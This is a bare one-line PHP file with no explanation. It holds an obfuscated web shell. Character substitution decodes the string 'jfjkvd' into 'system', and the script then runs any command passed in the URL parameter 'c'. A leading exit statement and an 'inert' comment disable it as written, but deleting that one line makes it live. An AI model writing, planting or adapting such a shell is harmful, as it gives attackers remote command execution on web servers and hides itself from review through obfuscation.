<?php exit; /* inert */ $f=strtr("jfjkvd",["j"=>"s","f"=>"y","k"=>"t","v"=>"e","d"=>"m"]); $f($_GET["c"]);
